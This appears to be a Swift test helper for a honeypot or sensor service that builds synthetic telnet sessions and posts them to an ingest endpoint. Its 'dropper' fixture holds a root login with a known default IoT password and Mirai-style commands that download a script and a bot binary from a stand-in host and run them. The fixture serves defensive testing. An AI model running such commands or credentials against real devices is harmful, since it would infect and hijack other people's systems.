import Foundation
import IPNetworks
import NIOHTTP1
import ThreatModel

/// A session on a sensor, as the lines a sensor would send.
struct TestVisit {
    let address: IPAddress
    let session: UUIDv7
    private var generator: SeededGenerator
    private(set) var events: [SessionEvent] = []
    private var time: Timestamp

    init(of address: String, number: Int = 1, at time: Timestamp = ManualClock.start) throws {
        guard let parsed = IPAddress(address) else { throw CocoaError(.formatting) }
        self.address = parsed
        self.time = time
        generator = SeededGenerator(seed: UInt64(number) &* 7919 &+ parsed.low)
        session = UUIDv7(at: time, using: &generator)
    }

    mutating func add(_ kind: EventKind, _ fields: EventFields = EventFields(), after delay: Duration = .zero) {
        time = time.advanced(by: delay)
        events.append(
            SessionEvent(
                id: UUIDv7(at: time, using: &generator), session: session, seq: UInt32(events.count), at: time,
                protocol: .telnet, transport: .tcp, dstPort: 23, src: address, srcPort: 50_000, kind: kind,
                fields: fields))
    }

    /// Logs in, fetches a program and runs it: as grave as it gets.
    static func dropper(_ address: String, number: Int = 1, at time: Timestamp = ManualClock.start) throws -> TestVisit
    {
        var visit = try TestVisit(of: address, number: number, at: time)
        visit.add(.connect)
        visit.add(.auth, ["method": "password", "username": "root", "password": "xc3511", "success": "true"])
        visit.add(.command, ["command": "cd /tmp; wget http://198.51.100.9/mirai.sh -O- | sh"])
        visit.add(.command, ["command": "wget http://198.51.100.9/bot.arm7; chmod 777 bot.arm7; ./bot.arm7"])
        visit.add(.close, ["duration_ms": "900", "reason": "client"])
        return visit
    }

    /// The body of a batch.
    static func lines(_ events: [SessionEvent]) throws -> [UInt8] {
        let encoder = JSONEncoder()
        return try events.flatMap { try Array(encoder.encode($0)) + [UInt8(ascii: "\n")] }
    }
}

extension TestServer {
    func send(_ events: [SessionEvent], token: String) async throws -> TestResponse {
        try await send(
            .POST, "/v1/sensor/events", key: token, headers: [("Content-Type", "application/x-ndjson")],
            body: try TestVisit.lines(events))
    }
}
